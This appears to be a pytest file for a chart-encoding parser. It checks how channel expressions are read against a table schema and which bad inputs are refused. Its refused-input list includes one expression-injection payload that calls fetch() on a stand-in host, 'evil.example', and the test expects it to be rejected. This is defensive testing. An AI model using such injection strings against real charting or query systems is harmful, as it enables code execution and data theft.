"""Channels are understood as they are written, and what cannot be is refused by name."""

from __future__ import annotations

from datetime import date, datetime

import pyarrow as pa
import pytest

from agnes_mcp.charts.encodings import Channel, ChartRequest, channel, channels
from agnes_mcp.errors import AgnesError

SCHEMA = pa.table(
    {
        "country": ["CZ"],
        "amount": [1.5],
        "n": [1],
        "ts": [datetime(2026, 1, 1)],
        "day": [date(2026, 1, 1)],
        "flag": [True],
        "sum(amount)": [2.0],
        "a.b": [1],
        "tags": [["x"]],
        "Ünïcode ] ' \" \\": [3],
    }
).schema

UNDERSTOOD = [
    ("country", Channel("x", "country", "nominal")),
    ("COUNTRY", Channel("x", "country", "nominal")),
    ("amount", Channel("x", "amount", "quantitative")),
    ("a.b", Channel("x", "a.b", "quantitative")),
    ("flag", Channel("x", "flag", "nominal")),
    ("day", Channel("x", "day", "temporal")),
    ("Ünïcode ] ' \" \\", Channel("x", "Ünïcode ] ' \" \\", "quantitative")),
    ("count()", Channel("x", None, "quantitative", "count")),
    ("COUNT( * )", Channel("x", None, "quantitative", "count")),
    ("count(country)", Channel("x", "country", "quantitative", "count")),
    ("avg(amount)", Channel("x", "amount", "quantitative", "mean")),
    ('sum("amount")', Channel("x", "amount", "quantitative", "sum")),
    ("distinct(country)", Channel("x", "country", "quantitative", "distinct")),
    ("max(ts)", Channel("x", "ts", "temporal", "max")),
    ("month(ts)", Channel("x", "ts", "temporal", None, "month")),
    ("yearmonthdate(day)", Channel("x", "day", "temporal", None, "day")),
    ("weekday(ts)", Channel("x", "ts", "nominal", None, "weekday")),
    ("sum(amount)", Channel("x", "sum(amount)", "quantitative")),  # a column of that very name comes first
    ("sum(sum(amount))", Channel("x", "sum(amount)", "quantitative", "sum")),
]


@pytest.mark.parametrize(("text", "expected"), UNDERSTOOD, ids=[text for text, _ in UNDERSTOOD])
def test_a_channel_is_understood(text: str, expected: Channel) -> None:
    assert channel("x", text, SCHEMA) == expected


REFUSED = [
    ("ammount", "unknown_column", "amount"),
    ("sum(missing)", "unknown_column", "country, amount"),
    ("stddev(amount)", "invalid_argument", "median"),
    ("sum(country)", "invalid_argument", "count"),
    ("min(country)", "invalid_argument", "distinct"),
    ("month(country)", "invalid_argument", "Cast"),
    ("tags", "invalid_argument", "cast it to text"),
    ("datum.amount > 1 || fetch('http://evil.example')", "unknown_column", "country"),
    ("x" * 5_000, "unknown_column", "country"),
]


@pytest.mark.parametrize(("text", "kind", "hint"), REFUSED, ids=[text[:20] for text, *_ in REFUSED])
def test_a_wrong_channel_says_what_there_is(text: str, kind: str, hint: str) -> None:
    with pytest.raises(AgnesError) as caught:
        channel("y", text, SCHEMA)
    assert caught.value.kind == kind
    assert hint in caught.value.hint
    assert len(caught.value.message) < 400


INCOMPLETE = [
    ChartRequest("bar"),
    ChartRequest("bar", "country", "day"),
    ChartRequest("bar", "avg(amount)", "sum(n)"),
    ChartRequest("bar", "country", "n", size="n"),
    ChartRequest("line", "ts", "avg(amount)", color="sum(n)"),
    ChartRequest("point", "amount"),
    ChartRequest("histogram", "avg(amount)"),
    ChartRequest("histogram", "amount", "n"),
    ChartRequest("histogram", "amount", color="sum(n)"),
    ChartRequest("histogram", "amount", "sum(n)", color="count()"),
    ChartRequest("heatmap", "country"),
    ChartRequest("heatmap", "country", "sum(n)"),
    ChartRequest("heatmap", "country", "day", color="flag"),
    ChartRequest("box", "amount"),
    ChartRequest("box", "amount", "country"),
    ChartRequest("map", "amount", "country"),
    ChartRequest("map", "avg(amount)", "n"),
    ChartRequest("pie", "country"),  # type: ignore[arg-type]
]


@pytest.mark.parametrize("request_", INCOMPLETE, ids=str)
def test_channels_that_make_no_picture_are_refused(request_: ChartRequest) -> None:
    with pytest.raises(AgnesError) as caught:
        channels(request_, SCHEMA)
    assert caught.value.kind == "invalid_argument"


def test_rows_are_counted_where_nothing_is_measured() -> None:
    assert channels(ChartRequest("bar", y="country"), SCHEMA)["x"] == Channel("x", None, "quantitative", "count")
    assert channels(ChartRequest("histogram", "amount"), SCHEMA)["y"].aggregate == "count"
    assert channels(ChartRequest("heatmap", "country", "day"), SCHEMA)["color"].aggregate == "count"
